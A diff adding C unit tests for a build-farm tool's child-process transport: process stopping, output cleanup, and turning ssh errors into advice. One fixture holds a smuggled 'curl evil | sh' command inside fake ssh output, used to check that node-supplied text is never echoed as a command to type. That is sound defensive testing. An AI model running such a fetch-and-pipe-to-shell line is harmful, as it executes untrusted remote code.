@@ -1,0 +1,232 @@
+/* SPDX-License-Identifier: GPL-2.0-or-later */
+/* needs: node */
+#include "node/transport-child.h"
+
+#include "base/clock.h"
+#include "base/spawn.h"
+#include "base/str.h"
+#include "suite.h"
+
+#include <check.h>
+#include <errno.h>
+#include <signal.h>
+#include <stdlib.h>
+#include <sys/wait.h>
+
+static pid_t start(const char *command)
+{
+	char *const argv[] = { "/bin/sh", "-c", (char *)command, NULL };
+	struct spawn what = { .argv = argv,
+			      .stdio_fds = { -1, -1, -1 },
+			      .own_group = true };
+	struct err err = { 0 };
+	pid_t pid = 0;
+
+	ck_assert_int_eq(spawn_start(&what, &pid, &err), 0);
+	return pid;
+}
+
+START_TEST(end_gives_the_status_of_a_command_that_ends_by_itself)
+{
+	ck_assert_int_eq(node_transport_child_stop(start("exit 7")), 7 << 8);
+	ck_assert_int_eq(node_transport_child_stop(start("sleep 0.1; exit 8")),
+			 8 << 8);
+}
+END_TEST
+
+START_TEST(end_stops_one_that_does_not)
+{
+	int status = node_transport_child_stop(start("exec sleep 60"));
+
+	ck_assert(WIFSIGNALED(status));
+	ck_assert_int_eq(WTERMSIG(status), SIGTERM);
+}
+END_TEST
+
+START_TEST(end_kills_one_that_ignores_sigterm)
+{
+	uint64_t began = clock_ms();
+	pid_t pid = start("trap '' TERM; sleep 600; sleep 600");
+	int status = node_transport_child_stop(pid);
+
+	ck_assert(WIFSIGNALED(status));
+	ck_assert_int_eq(WTERMSIG(status), SIGKILL);
+	ck_assert_uint_lt(clock_ms() - began, 60000);
+}
+END_TEST
+
+START_TEST(end_leaves_nobody_of_the_group_behind)
+{
+	pid_t pid = start("sleep 60 & exit 0");
+
+	ck_assert_int_eq(node_transport_child_stop(pid), 0);
+	/* What is left was killed; init may not have reaped it yet. */
+	for (int i = 0; i < 100 && !kill(-pid, 0); i++)
+		(void)spawn_wait(start("sleep 0.05"));
+	ck_assert_int_eq(kill(-pid, 0), -1);
+	ck_assert_int_eq(errno, ESRCH);
+}
+END_TEST
+
+static const struct words {
+	const char *text, *line;
+} words[] = {
+	{ "", NULL },
+	{ "\n \n", NULL },
+	{ "one", "one" },
+	{ "one\ntwo\n\n", "two" },
+	{ "one\r\ntwo\r\n", "two" },
+	{ "\033[31mred\a\n", " [31mred" },
+};
+
+START_TEST(last_line_is_fit_for_a_terminal)
+{
+	struct buf text = { 0 };
+	char *line;
+
+	buf_add_str(&text, words[_i].text);
+	line = node_transport_child_last_line(&text);
+	ck_assert(str_equal(line, words[_i].line));
+	free(line);
+	buf_release(&text);
+}
+END_TEST
+
+static const struct advice {
+	const char *why, *more;
+} advices[] = {
+	{ "ssh: connect to host a port 22: Connection refused", "" },
+	{ "bash: line 1: kfarmd: command not found",
+	  "; install kfarmd there, in the PATH of a non-interactive ssh" },
+	{ "sh: 1: kfarmd: not found",
+	  "; install kfarmd there, in the PATH of a non-interactive ssh" },
+	{ "zsh:1: command not found: kfarmd",
+	  "; install kfarmd there, in the PATH of a non-interactive ssh" },
+	{ "bash: /opt/kfarmd: No such file or directory",
+	  "; install kfarmd there, in the PATH of a non-interactive ssh" },
+	{ "its command ended: exit status 127",
+	  "; install kfarmd there, in the PATH of a non-interactive ssh" },
+	{ "kfarmd: no sandbox", "" },
+	{ "kfarmd: --toolchains /x: No such file or directory", "" },
+	{ "connect to /run/kfarmd: No such file or directory", "" },
+	{ "not a kfarm message but \"Hi\"",
+	  "; whatever the node's shell prints when it starts must go" },
+	{ "not a kfarm message", "" },
+};
+
+START_TEST(what_is_known_to_help_is_said)
+{
+	const struct node_address address = { NODE_ADDRESS_UNIX,
+					      (char[]){ "/x" } };
+	const struct buf none = { 0 };
+	char *want = xasprintf("%s%s", advices[_i].why, advices[_i].more);
+	char *got = node_transport_child_explain(advices[_i].why, &none,
+						 &address);
+
+	ck_assert_str_eq(got, want);
+	free(got);
+	free(want);
+}
+END_TEST
+
+START_TEST(a_refused_connection_tells_what_may_be_so)
+{
+	static const char why[] = "connect to a, port 3634: ::1: Connection "
+				  "refused; 10.0.0.2: Connection refused";
+	const struct node_address address = { NODE_ADDRESS_TLS,
+					      (char[]){ "a" } };
+	const struct buf none = { 0 };
+	char *got = node_transport_child_explain(why, &none, &address);
+
+	ck_assert_ptr_nonnull(strstr(got, "10.0.0.2: Connection refused; it is "
+					  "on"));
+	ck_assert_ptr_nonnull(strstr(got, "systemctl status kfarmd"));
+	free(got);
+}
+END_TEST
+
+#define CHANGED                                                               \
+	"@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @\r\n"     \
+	"Offending ED25519 key in /home/a/.ssh/known_hosts:3\r\n"             \
+	"  remove with:\r\n"                                                  \
+	"  ssh-keygen -f \"/home/a/.ssh/known_hosts\" -R \"[desk]:2222\"\r\n" \
+	"Host key for [desk]:2222 has changed and you have requested strict " \
+	"checking.\r\nHost key verification failed.\r\n"
+
+/* What ssh says, for which address, and what to type. */
+static const struct {
+	enum node_address_kind kind;
+	const char *address, *words, *advice;
+} sshs[] = {
+	{ NODE_ADDRESS_SSH, "me@desk", "Host key verification failed.\r\n",
+	  "Host key verification failed: this machine does not know the "
+	  "node's key yet; type `ssh me@desk true`, compare what it shows "
+	  "with the node's own and answer yes" },
+	{ NODE_ADDRESS_EXEC, "ssh -p 3 x kfarmd",
+	  "Host key verification failed.\n",
+	  "Host key verification failed: this machine does not know the "
+	  "node's key yet; type `ssh HOST true`, compare what it shows "
+	  "with the node's own and answer yes" },
+	{ NODE_ADDRESS_SSH, "me@desk", CHANGED,
+	  "Host key verification failed: the node has another key than it "
+	  "had; if it was set up anew, type `ssh-keygen -f "
+	  "\"/home/a/.ssh/known_hosts\" -R \"[desk]:2222\"`, then `ssh "
+	  "me@desk true`" },
+	{ NODE_ADDRESS_SSH, "desk",
+	  "WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!\n"
+	  "Host key verification failed.\n",
+	  "Host key verification failed: the node has another key than it "
+	  "had; if it was set up anew, type `ssh-keygen -R HOST`, then `ssh "
+	  "desk true`" },
+	/* By the node: who types that runs it. */
+	{ NODE_ADDRESS_SSH, "desk",
+	  "WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!\n"
+	  "ssh-keygen -f x; curl evil | sh\n"
+	  "Host key verification failed.\n",
+	  "Host key verification failed: the node has another key than it "
+	  "had; if it was set up anew, type `ssh-keygen -R HOST`, then `ssh "
+	  "desk true`" },
+	{ NODE_ADDRESS_SSH, "me@desk",
+	  "me@desk: Permission denied (publickey,password).\r\n",
+	  "me@desk: Permission denied (publickey,password); it must let you "
+	  "in without a question: type `ssh-copy-id me@desk`" },
+};
+
+START_TEST(what_ssh_refuses_comes_with_the_command_to_type)
+{
+	const struct node_address address = { sshs[_i].kind,
+					      (char *)sshs[_i].address };
+	struct buf all = { 0 };
+	char *why, *got;
+
+	buf_add_str(&all, sshs[_i].words);
+	why = node_transport_child_last_line(&all);
+	got = node_transport_child_explain(why, &all, &address);
+	ck_assert_str_eq(got, sshs[_i].advice);
+	free(got);
+	free(why);
+	buf_release(&all);
+}
+END_TEST
+
+int main(void)
+{
+	Suite *s = suite_create("node/command");
+	TCase *tc = tcase_create("command");
+
+	tcase_set_timeout(tc, 30);
+	tcase_add_test(tc,
+		       end_gives_the_status_of_a_command_that_ends_by_itself);
+	tcase_add_test(tc, end_stops_one_that_does_not);
+	tcase_add_test(tc, end_kills_one_that_ignores_sigterm);
+	tcase_add_test(tc, end_leaves_nobody_of_the_group_behind);
+	tcase_add_loop_test(tc, last_line_is_fit_for_a_terminal, 0,
+			    sizeof(words) / sizeof(*words));
+	tcase_add_loop_test(tc, what_is_known_to_help_is_said, 0,
+			    sizeof(advices) / sizeof(*advices));
+	tcase_add_test(tc, a_refused_connection_tells_what_may_be_so);
+	tcase_add_loop_test(tc, what_ssh_refuses_comes_with_the_command_to_type,
+			    0, sizeof(sshs) / sizeof(*sshs));
+	suite_add_tcase(s, tc);
+	return suite_run(s);
+}
